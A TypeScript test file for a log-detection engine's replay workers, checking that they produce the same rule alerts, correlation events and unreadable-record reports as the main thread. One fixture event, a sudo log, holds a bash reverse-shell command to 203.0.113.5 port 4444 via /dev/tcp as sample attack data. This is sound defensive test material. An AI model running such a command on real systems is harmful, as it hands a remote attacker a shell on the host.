import { afterEach, describe, expect, it } from 'vitest';
import type { InRecord } from '../../core/bus/index.js';
import type { EcsEvent } from '../../core/event/index.js';
import { loadRetroRules, RetroHunt } from '../../detections/engine/retro.js';
import { unpackValues } from '../../ingest/workers/codec.js';
import { createReplayPool } from './threads.js';

const NOW = new Date('2026-11-20T12:00:00.000Z');
const RULES = ['rules/sigma', 'rules/correlation'];
let pool: ReturnType<typeof createReplayPool> | undefined;

afterEach(async () => {
  await pool?.close();
  pool = undefined;
});

const record = (value: string, offset: number): InRecord => ({
  topic: 'vigil.events',
  partition: 0,
  offset: String(offset),
  key: null,
  value: Buffer.from(value),
  headers: {},
  timestamp: 0,
});

/** An sshd failure (a correlation's base rule), a reverse shell through sudo (alerts), a benign event, and two records that are not events. */
const events: Array<EcsEvent | string> = [
  {
    '@timestamp': '2026-11-20T10:00:00.000Z',
    message: 'Failed password for root from 203.0.113.5 port 40000 ssh2',
    event: { category: ['authentication'], outcome: 'failure', action: 'ssh_login' },
    host: { name: 'web-01' },
    process: { name: 'sshd' },
    user: { name: 'root' },
    source: { ip: '203.0.113.5' },
    log: { syslog: { appname: 'sshd' } },
    vigil: { id: 'e1', input: 'test', received_at: '2026-11-20T10:00:00.000Z', parse_status: 'ok' },
  } as EcsEvent,
  'not json',
  {
    '@timestamp': '2026-11-20T10:00:10.000Z',
    message: 'deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    host: { name: 'web-01' },
    process: { name: 'sudo', command_line: '/bin/bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' },
    user: { name: 'deploy', effective: { name: 'root' } },
    log: { syslog: { appname: 'sudo' } },
    vigil: { id: 'e2', input: 'test', received_at: '2026-11-20T10:00:10.000Z', parse_status: 'ok' },
  } as EcsEvent,
  JSON.stringify({ message: 'no time' }),
  { '@timestamp': '2026-11-20T10:00:20.000Z', message: 'nothing to see', host: { name: 'web-01' } } as EcsEvent,
];

describe('replay workers', () => {
  it('match a batch as RetroHunt does on the main thread: alerts, the events correlations need, unreadable records', async () => {
    const records = events.map((e, i) => record(typeof e === 'string' ? e : JSON.stringify(e), 100 + i));
    pool = createReplayPool(1, { rules: RULES, pipeline: 'ecs', now: NOW.getTime() });
    const results = await pool.run(records);

    const here = new RetroHunt(loadRetroRules(RULES, { pipeline: 'ecs' }), NOW);
    const alerts: EcsEvent[] = [];
    const kept: string[] = [];
    const keptAt: number[] = [];
    const keptTimes: number[] = [];
    for (const [i, e] of events.entries()) {
      if (typeof e === 'string') continue;
      here.matchRules(
        e,
        (a) => alerts.push(a),
        (_, err) => {
          throw err;
        },
      );
      const t = here.correlationTime(e);
      if (t === undefined) continue;
      kept.push(JSON.stringify(e));
      keptAt.push(i);
      keptTimes.push(t);
    }
    expect(alerts.length).toBeGreaterThan(0);
    // The sshd failure is one of them (the brute-force correlation's base rule).
    expect(keptAt).toContain(0);

    expect(unpackValues({ values: results.alerts, valueEnds: results.alertEnds }).map((b) => b.toString('utf8'))).toEqual(
      alerts.map((a) => JSON.stringify(a)),
    );
    expect(results.alertMeta).toEqual(
      alerts.map((a) => [
        a.vigil?.id,
        (a.rule as { id: string }).id,
        (a.rule as { name: string }).name,
        (a.vigil as unknown as { alert: { level: string } }).alert.level,
        a['@timestamp'],
      ]),
    );
    expect(unpackValues({ values: results.kept, valueEnds: results.keptEnds }).map((b) => b.toString('utf8'))).toEqual(kept);
    expect([...results.keptRecords]).toEqual(keptAt);
    expect([...results.keptTimes]).toEqual(keptTimes);
    expect(results.unreadable).toEqual([
      { index: 1, reason: expect.stringMatching(/JSON/) },
      { index: 3, reason: 'no @timestamp' },
    ]);
    expect(results.ruleErrors).toEqual([]);
  });

  it('fails the batches of a worker that dies, and every later one at once', async () => {
    pool = createReplayPool(
      1,
      { rules: RULES, pipeline: 'ecs', now: NOW.getTime() },
      new URL('../../test/support/workers/replay-exits.mjs', import.meta.url),
    );
    const batch = [record('{}', 0)];
    await expect(pool.run(batch)).rejects.toMatchObject({
      code: 'SERVICE_UNAVAILABLE',
      message: expect.stringMatching(/exited \(code 3\)/),
    });
    await expect(pool.run(batch)).rejects.toMatchObject({ code: 'SERVICE_UNAVAILABLE' });
  });
});
